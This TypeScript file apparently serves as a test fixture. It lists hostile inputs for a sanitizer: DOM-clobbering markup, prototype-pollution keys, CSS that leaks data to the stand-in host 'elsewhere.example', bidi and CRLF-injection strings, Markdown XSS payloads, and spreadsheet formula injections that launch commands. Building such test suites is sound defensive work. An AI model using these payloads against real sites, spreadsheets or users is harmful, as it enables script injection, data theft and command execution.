import { family, RUN } from './payload.ts'

const CLOBBERED = [
	...['cookie', 'body', 'head', 'forms', 'location', 'defaultView', 'currentScript', 'scripts'],
	...['getElementById', 'querySelector', 'createElement', 'documentElement', 'activeElement'],
	...['attributes', 'parentNode', 'childNodes', 'innerHTML', 'nodeName', 'children', 'submit'],
	...['self', 'top', 'parent', '__next_f', '__NEXT_DATA__', 'fetch', 'caches', 'trustedTypes'],
]

const clobbering = family('names that stand for something of the page’s', [
	...CLOBBERED.map((name) => `<a id=${name} name=${name} href="https://elsewhere.example/">x</a>`),
	...CLOBBERED.slice(0, 12).map((name) => `<form name=${name}><input name=${name}></form>`),
	...CLOBBERED.slice(0, 8).map((name) => `<img name=${name} id=${name}>`),
	`<form id=x tabindex=0 onfocus=${RUN}><input name=attributes autofocus>`,
	`<form><input name=parentNode><input name=nodeName>`,
	`<iframe name=self srcdoc="<a id=x href=javascript:${RUN}>">`,
	`<p id=content></p><main id=content>x</main>`,
	`<p data-block=b1 data-article-id=x data-note=1 data-step>x</p>`,
])

const prototypes = family('names that every object has', [
	...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'],
	...['__defineGetter__', '__lookupSetter__', 'isPrototypeOf', 'then', 'toJSON', 'length'],
	'__proto__[x]=1',
	'constructor.prototype.x',
	'{"__proto__":{"x":1}}',
	'author:__proto__',
	'country:constructor',
])

const styles = family('styles', [
	`<style>*{background:url(https://elsewhere.example/x)}</style>`,
	`<style>@import url(https://elsewhere.example/x.css);</style>`,
	`<style>@import'https://elsewhere.example/x.css';</style>`,
	`<style>body{display:none}</style>`,
	`<style>input[value^=a]{background:url(//elsewhere.example/a)}</style>`,
	`<p style="background:url(javascript:${RUN})">x</p>`,
	`<p style="background-image:url(https://elsewhere.example/x)">x</p>`,
	`<p style="width:expression(${RUN})">x</p>`,
	`<p style="-moz-binding:url(https://elsewhere.example/x.xml#x)">x</p>`,
	`<p style="behavior:url(#default#time2)">x</p>`,
	`<p style="position:fixed;inset:0;z-index:9999">x</p>`,
	`<p style="list-style:url(https://elsewhere.example/x)">x</p>`,
	`<p style="cursor:url(https://elsewhere.example/x),auto">x</p>`,
	`<p style="content:url(https://elsewhere.example/x)">x</p>`,
	`<link rel=stylesheet href=https://elsewhere.example/x.css>`,
	`<font color="expression(${RUN})" face="x;background:url(//elsewhere.example/)">x</font>`,
	`<b style=\u0062ackground:url(//elsewhere.example/)>x</b>`,
	`</style><style>*{color:red}`,
])

const letters = family('letters that turn the line around', [
	'\u202egnp.exe',
	'\u202e\u2066safe\u2069 \u2066not\u2069',
	'\u2067right\u2069 left \u2066left',
	'x\u202dforced\u202c',
	'\u200f\u200e\u061c',
	'A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c'.repeat(4),
	'\ufeff\u200b\u200c\u200d\u2060',
	'\u2028\u2029\u0085',
	'\ud83d',
	'\udc00x',
	'\ufdd0\ufffe\uffff',
	'\u{e0001}\u{e0020}\u{e007f}',
	'x\u0008\u0008\u0007\u001b[31mred\u001b[0m',
	'line\r\nSet-Cookie: x=1\r\n\r\nbody',
	'ﷺ'.repeat(20),
])

const markdown = family('Markdown', [
	`[x](javascript:${RUN})`,
	`[x](JaVaScRiPt:${RUN})`,
	`[x](java&Tab;script:${RUN})`,
	`[x](&#106;avascript:${RUN})`,
	`[x](<java\nscript:${RUN}>)`,
	`[x](data:text/html,<script>${RUN}</script>)`,
	`[x](vbscript:${RUN})`,
	`[x](https://example.org/"onmouseover="${RUN})`,
	`[x](https://example.org/ "x" onmouseover="${RUN}")`,
	`[x](https://example.org/ "&quot; onmouseover=${RUN}")`,
	`[x]: javascript:${RUN}\n[x]`,
	`![x](https://elsewhere.example/x.png)`,
	`![x](x"onerror="${RUN})`,
	`![x" onerror="${RUN}](x)`,
	`<javascript:${RUN}>`,
	`<https://example.org/?x="onmouseover=${RUN}>`,
	`[![x](x)](javascript:${RUN})`,
	`\`<script>${RUN}</script>\``,
	`\`\`\`"><script>${RUN}</script>\n<img src=x onerror=${RUN}>\n\`\`\``,
	`    <script>${RUN}</script>`,
	`<div>\n\n<script>${RUN}</script>\n\n</div>`,
	`<b>**x**</b onclick=${RUN}>`,
	`- <svg onload=${RUN}>\n> <img src=x onerror=${RUN}>`,
	`# <img src=x onerror=${RUN}>`,
	`| x |\n|---|\n| <script>${RUN}</script> |`,
	`&#x3C;script&#x3E;${RUN}&#x3C;/script&#x3E;`,
	`\\<script>${RUN}\\</script>`,
	`<!-- -->${'<img src=x onerror='}${RUN}>`,
	`[x](https://example.org)<img src=x onerror=${RUN}>`,
	`${'['.repeat(50)}x${'](javascript:pwn())'.repeat(50)}`,
])

const formulas = family('formulas of a spreadsheet', [
	`=HYPERLINK("https://elsewhere.example/","x")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`\t=1+1`,
	`\r=1+1`,
	`＝1+1`,
	`=IMPORTXML("https://elsewhere.example/","//a")`,
	`"=1+1`,
	`'=1+1`,
	`;=1+1`,
])

export const names = [...clobbering, ...prototypes, ...styles, ...letters, ...markdown, ...formulas]
